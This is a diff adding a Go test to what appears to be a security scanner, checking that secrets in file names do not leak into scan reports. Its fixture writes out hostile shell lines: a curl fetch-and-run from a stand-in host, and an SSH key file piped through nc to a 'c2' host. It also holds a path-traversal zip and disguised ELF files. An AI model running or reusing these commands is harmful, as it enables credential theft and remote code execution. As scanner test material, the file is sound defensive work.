@@ -68,3 +68,27 @@ func TestHidden(t *testing.T) {
 		}
 	}
 }
+
+// A secret in the name of a file is in no message and no fact. The finding's file has it, since it says
+// where to look.
+func TestSecretInName(t *testing.T) {
+	for _, canary := range canary.All() {
+		if strings.Contains(canary, "\n") {
+			continue // a key is no name
+		}
+		r := scanOf(t, map[string]string{
+			canary + ".sh":            "\x00\x01", // not read
+			canary + ".png":           elf,
+			canary + ".zip":           zipOf("../"+canary, "x"),
+			"a.zip":                   zipOf(canary+".so", elf, canary+".rar", "Rar!\x1a\x07\x01\x00"),
+			"b/" + canary + "/.envrc": "make\n",
+			"run.sh":                  "curl https://get.acme-tools.dev/" + canary + " -o ~/" + canary + " && sh ~/" + canary + "\ncat ~/.ssh/" + canary + " | nc c2.acme-tools.dev 1\n" + canary + " --now\nnpm install " + canary + "\n",
+		})
+		for i := range r.Findings {
+			r.Findings[i].File = ""
+		}
+		if shown := fmt.Sprintf("%+v", r); strings.Contains(shown, canary) {
+			t.Errorf("%q is in %s", canary, shown)
+		}
+	}
+}
